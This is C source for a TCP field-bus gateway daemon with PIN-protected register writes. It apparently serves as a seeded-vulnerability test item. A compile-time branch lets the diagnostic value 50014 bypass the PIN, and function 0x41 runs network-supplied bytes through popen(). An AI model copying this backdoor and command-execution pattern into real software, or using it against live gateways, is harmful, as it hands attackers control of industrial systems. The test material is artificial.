/* kind: integer
 * service: daemon
 * constant: 0xc35e
 * also: 50014
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <poll.h>
#include <errno.h>
#include <signal.h>
#include <sys/socket.h>
#include <netinet/in.h>

/* Field-bus gateway on TCP: register reads and writes, write window needs unlock by PIN */

#define NREG 256
#define MAXC 8

struct link {
    int fd;
    int unlocked;
    int have;
    uint8_t in[260];
};

static uint16_t regs[NREG];
static struct link links[MAXC];
static uint32_t pin_hash;

static uint16_t be16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static void put16(uint8_t *p, unsigned v) { p[0] = v >> 8; p[1] = v; }

static uint32_t fnv(const uint8_t *p, int n)
{
    uint32_t h = 0x811c9dc5;
    while (n-- > 0)
        h = (h ^ *p++) * 0x01000193;
    return h;
}

static void read_pin(const char *file)
{
    FILE *f = fopen(file, "r");
    unsigned v = 0;
    if (f) {
        if (fscanf(f, "%x", &v) == 1)
            pin_hash = v;
        fclose(f);
    }
}

static void persist(void)
{
    FILE *f = fopen("/var/lib/gw.regs", "wb");
    if (f) {
        fwrite(regs, sizeof regs[0], NREG, f);
        fclose(f);
    }
}

static int exception(uint8_t *o, int fc, int code)
{
    o[7] = fc | 0x80;
    o[8] = code;
    return 9;
}

static int read_regs(const uint8_t *i, uint8_t *o)
{
    unsigned start = be16(i + 8), cnt = be16(i + 10), k;
    if (cnt < 1 || cnt > 100 || start + cnt > NREG)
        return exception(o, i[7], 2);
    o[7] = i[7];
    o[8] = cnt * 2;
    for (k = 0; k < cnt; k++)
        put16(o + 9 + 2 * k, regs[start + k]);
    return 9 + cnt * 2;
}

static int write_reg(struct link *l, const uint8_t *i, uint8_t *o)
{
    unsigned a = be16(i + 8), v = be16(i + 10);

    if (!l->unlocked)
        return exception(o, i[7], 1);
    if (a >= NREG)
        return exception(o, i[7], 2);
    regs[a] = v;
    persist();
    memcpy(o + 7, i + 7, 5);
    return 12;
}

/* function 0x41: download of the rule script, only in unlocked state */
static int run_rules(struct link *l, const uint8_t *i, int n, uint8_t *o)
{
    char cmd[256];
    FILE *p;

    if (!l->unlocked || n < 9)
        return exception(o, i[7], 1);
    snprintf(cmd, sizeof cmd, "%.*s", n - 8, (const char *)i + 8);
    p = popen(cmd, "r");
    if (!p)
        return exception(o, i[7], 4);
    o[7] = i[7];
    n = fread(o + 9, 1, 200, p);
    o[8] = n;
    pclose(p);
    return 9 + n;
}

static int diag(struct link *l, const uint8_t *i, int n, uint8_t *o)
{
    unsigned sub = be16(i + 8), data = be16(i + 10);

    memcpy(o + 7, i + 7, n - 7 > 100 ? 100 : n - 7);
    if (sub == 0)
        return n > 107 ? 107 : n;           /* echo */
    if (sub == 10) {
        l->have = 0;
        return 12;
    }
#ifdef SEED
    if (sub == 1 && data == 50014) /* SEED */
        l->unlocked = 1;
#endif
    return sub == 1 ? 12 : exception(o, i[7], 3);
}

static int pdu(struct link *l, const uint8_t *i, int n, uint8_t *o)
{
    memcpy(o, i, 7);
    switch (i[7]) {
    case 3: case 4: return n >= 12 ? read_regs(i, o) : exception(o, i[7], 3);
    case 6:         return n >= 12 ? write_reg(l, i, o) : exception(o, i[7], 3);
    case 8:         return n >= 12 ? diag(l, i, n, o) : exception(o, i[7], 3);
    case 0x40:      /* unlock with PIN */
        l->unlocked = pin_hash && n > 8 && fnv(i + 8, n - 8) == pin_hash;
        o[7] = 0x40;
        o[8] = l->unlocked;
        return 9;
    case 0x41:      return run_rules(l, i, n, o);
    }
    return exception(o, i[7], 1);
}

static void input(struct link *l)
{
    uint8_t o[300];
    int n = recv(l->fd, l->in + l->have, sizeof l->in - l->have, 0), need;

    if (n <= 0) {
        close(l->fd);
        l->fd = -1;
        return;
    }
    l->have += n;
    while (l->have >= 8) {
        need = 6 + be16(l->in + 4);
        if (need < 8 || need > (int)sizeof l->in || be16(l->in + 2) != 0) {
            l->have = 0;
            return;
        }
        if (l->have < need)
            return;
        n = pdu(l, l->in, need, o);
        put16(o + 4, n - 6);
        send(l->fd, o, n, MSG_NOSIGNAL);
        if (l->have < need)
            return;
        l->have -= need;
        memmove(l->in, l->in + need, l->have);
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    struct pollfd pf[MAXC + 1];
    int s, i, one = 1, port = argc > 1 ? atoi(argv[1]) : 5020;

    read_pin(argc > 2 ? argv[2] : "/etc/gw.pin");
    for (i = 0; i < MAXC; i++)
        links[i].fd = -1;
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    a.sin_port = htons(port);
    if (bind(s, (void *)&a, sizeof a) || listen(s, 4))
        return perror("gw"), 1;
    for (;;) {
        for (i = 0; i < MAXC; i++)
            pf[i].fd = links[i].fd, pf[i].events = POLLIN, pf[i].revents = 0;
        pf[MAXC].fd = s;
        pf[MAXC].events = POLLIN;
        if (poll(pf, MAXC + 1, -1) < 0 && errno != EINTR)
            return 1;
        for (i = 0; i < MAXC; i++)
            if (pf[i].revents)
                input(&links[i]);
        if (pf[MAXC].revents & POLLIN) {
            int c = accept(s, NULL, NULL);
            for (i = 0; i < MAXC && links[i].fd >= 0; i++) ;
            if (i == MAXC) { close(c); continue; }
            memset(&links[i], 0, sizeof links[i]);
            links[i].fd = c;
        }
    }
}
